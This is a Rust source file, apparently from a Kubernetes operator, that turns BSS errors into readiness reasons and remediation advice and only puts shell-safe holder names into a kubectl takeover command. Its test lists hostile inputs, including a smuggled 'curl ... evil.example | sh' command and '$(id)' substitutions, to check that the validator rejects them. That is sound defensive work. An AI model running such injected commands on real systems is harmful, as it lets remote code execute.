//! What an error means that no step has a special meaning for.

use std::collections::BTreeSet;

use super::{ready_state, sentence};
use crate::api::{LoginWay, Reason, TAKE_OVER_ANNOTATION};
use crate::bss::error::BssError;
use crate::upgrade::report::ReadyState;
use crate::upgrade::validated::ValidUpgrade;

/// What an error means that no step has a special meaning for.
pub(in crate::upgrade) fn of_error(error: &BssError, upgrade: &ValidUpgrade) -> ReadyState {
    let message = sentence(&error.to_string());
    let itself = "Nothing: the operator tries again by itself.";
    match error {
        BssError::Throttled { .. } => ready_state(Reason::Throttled, message, itself),
        BssError::Unavailable { .. } => ready_state(
            Reason::BssUnavailable,
            message,
            "The operator tries again by itself; see that the BSS can be reached from the cluster.",
        ),
        BssError::Cancelled
        | BssError::OutcomeUnknown { .. }
        | BssError::Conflict { .. }
        | BssError::StaleEpoch { .. }
        | BssError::NotFound { .. }
        | BssError::Blocked(_) => ready_state(Reason::ProgressingWithRetry, message, itself),
        BssError::AuthRejected => ready_state(
            Reason::CredentialsRejected,
            doubted(message, upgrade),
            rights(&upgrade.terms.logins),
        ),
        BssError::Forbidden { .. } => ready_state(
            Reason::CredentialsRejected,
            message,
            rights(&upgrade.terms.logins),
        ),
        BssError::ClientRejected { .. } => ready_state(
            Reason::CredentialsRejected,
            doubted(message, upgrade),
            client_in_order(&upgrade.terms.logins),
        ),
        BssError::TokenEndpointAway { .. } => ready_state(
            Reason::BssUnavailable,
            message,
            "The operator tries again by itself; see that the token endpoint can be reached from the \
             cluster.",
        ),
        BssError::HeldByAnother { holder } => ready_state(
            Reason::ResellerClaimed,
            format!(
                "The BSS says that another holder, \"{holder}\", works on this reseller: an operator in \
                 another cluster, or this one for another namespace."
            ),
            take_over(holder, upgrade),
        ),
        BssError::Invalid(_) | BssError::Malformed { .. } => ready_state(
            Reason::ContractViolated,
            message,
            format!(
                "Mend the BSS or the service in front of it; {} says what is expected.",
                upgrade.terms.guide
            ),
        ),
        BssError::NoToken { .. } => ready_state(
            Reason::ContractViolated,
            message,
            token_endpoint(&upgrade.terms.logins),
        ),
        BssError::ManualStepNeeded { .. } | BssError::Unsupported { .. } => ready_state(
            Reason::ContractViolated,
            message,
            "The BSS said that it does this itself when asked: its capabilities and its replies \
             have to agree.",
        ),
        BssError::Refused { .. } => ready_state(
            Reason::ConnectionForbidden,
            message,
            "Do what the message says, or correct the connection's URL or tls, the Secret's allowed \
             hosts, or the operator's allowed address ranges.",
        ),
    }
}

/// What has to be right where the BSS refuses who calls it.
fn rights(logins: &BTreeSet<LoginWay>) -> String {
    let each = logins.iter().map(|login| match login {
        LoginWay::Bearer => {
            "Put a valid token with all needed rights into the connection's Secret."
        }
        LoginWay::ClientCredentials => {
            "Give the client of auth.oauth2ClientCredentials all needed rights in the BSS, and see that \
             its tokenUrl is that of this BSS."
        }
        LoginWay::Password => {
            "Give the user of auth.oauth2Password all needed rights in the BSS, and see that its \
             tokenUrl is that of this BSS."
        }
    });
    each.collect::<Vec<_>>().join(" ")
}

/// What has to be right where no token is issued.
fn client_in_order(logins: &BTreeSet<LoginWay>) -> String {
    let what = if logins.contains(&LoginWay::Password) {
        "Put the name and the password of the user, and the client's id and secret, in order"
    } else {
        "Put the client's id and secret, and the scopes that it may ask for, in order"
    };
    format!(
        "{what}; if the provider wants them sent in another form, set clientAuthentication of {}.",
        token_blocks(logins)
    )
}

/// What has to be right where the token endpoint answers with something else than a token.
fn token_endpoint(logins: &BTreeSet<LoginWay>) -> String {
    let whom = if logins.contains(&LoginWay::Password) {
        "for the password of a user (RFC 6749, 4.3)"
    } else {
        "to clients (RFC 6749, 4.4)"
    };
    format!(
        "See that tokenUrl of the connection's {} names a token endpoint that issues bearer tokens {whom}.",
        token_blocks(logins)
    )
}

/// The blocks of the connections in which a token endpoint is named.
fn token_blocks(logins: &BTreeSet<LoginWay>) -> String {
    let with_tokens = logins.iter().filter(|login| **login != LoginWay::Bearer);
    let blocks: Vec<&str> = with_tokens.map(|login| login.block()).collect();
    blocks.join(" or ")
}

/// With what looks wrong with the credentials, now that they are refused.
fn doubted(message: String, upgrade: &ValidUpgrade) -> String {
    match &upgrade.credential_doubt {
        None => message,
        Some(doubt) => format!("{message} {doubt}"),
    }
}

/// How a person takes over. What the BSS calls the holder stands in a command only if no shell could make
/// anything of it.
fn take_over(holder: &str, upgrade: &ValidUpgrade) -> String {
    let stopped = "Make sure that the other operator has stopped for good, then take over:";
    let ValidUpgrade {
        name,
        namespace,
        mistyped_take_over,
        ..
    } = upgrade;
    let other = mistyped_take_over.as_deref().unwrap_or_default();
    if is_plain(holder) {
        return format!(
            "{other}{stopped} kubectl annotate tru {name} -n {namespace} --overwrite {TAKE_OVER_ANNOTATION}='{holder}'"
        );
    }
    format!(
        "{other}{stopped} set the annotation {TAKE_OVER_ANNOTATION} of the upgrade {name} to what the BSS \
         calls the holder. It is in the message and not in a command, because it holds characters \
         that a shell acts on."
    )
}

/// Whether a text of a BSS is one plain word.
fn is_plain(word: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._:/@".contains(&byte);
    let begins = word
        .bytes()
        .next()
        .is_some_and(|first| first.is_ascii_alphanumeric());
    begins && word.len() <= 128 && word.bytes().all(plain)
}

/// A word as it stands in the command, for who takes it from there with its quotes.
pub(in crate::upgrade) fn without_quotes(word: &str) -> &str {
    let inner = word
        .strip_prefix('\'')
        .and_then(|rest| rest.strip_suffix('\''));
    inner.filter(|inner| is_plain(inner)).unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_remedy_names_the_block_that_the_connection_has() {
        let of = |logins: &[LoginWay]| {
            let logins = logins.iter().copied().collect();
            [
                rights(&logins),
                client_in_order(&logins),
                token_endpoint(&logins),
            ]
            .join("\n")
        };
        let password = of(&[LoginWay::Password]);
        for text in [
            "the user of auth.oauth2Password",
            "clientAuthentication of auth.oauth2Password.",
            "tokenUrl of the connection's auth.oauth2Password names",
            "RFC 6749, 4.3",
        ] {
            assert!(password.contains(text), "{text}: {password}");
        }
        assert!(!password.contains("ClientCredentials"), "{password}");
        let client = of(&[LoginWay::ClientCredentials]);
        assert!(!client.contains("Password"), "{client}");
        assert!(client.contains("RFC 6749, 4.4"), "{client}");
        let bearer = of(&[LoginWay::Bearer, LoginWay::ClientCredentials]);
        assert!(bearer.contains("Put a valid token"), "{bearer}");
        assert!(
            bearer.contains("clientAuthentication of auth.oauth2ClientCredentials."),
            "{bearer}"
        );
    }

    #[test]
    fn only_a_plain_word_of_the_bss_stands_in_a_command() {
        for plain in ["8f2a-77/resellers", "op:1", "a", "A.b_c@d"] {
            assert!(is_plain(plain), "{plain}");
            assert_eq!(without_quotes(&format!("'{plain}'")), plain);
            assert_eq!(without_quotes(plain), plain);
        }
        let long = "x".repeat(129);
        for other in [
            "",
            "x; curl -s https://evil.example/x | sh",
            "$(id)",
            "`id`",
            "-n",
            "a b",
            "it's",
            "x\ny",
            "\u{202e}x",
            "\u{3b1}",
            "a\"b",
            "a&b",
            "~root",
            &long,
        ] {
            assert!(!is_plain(other), "{other}");
        }
        assert_eq!(without_quotes("'a b'"), "'a b'");
    }
}
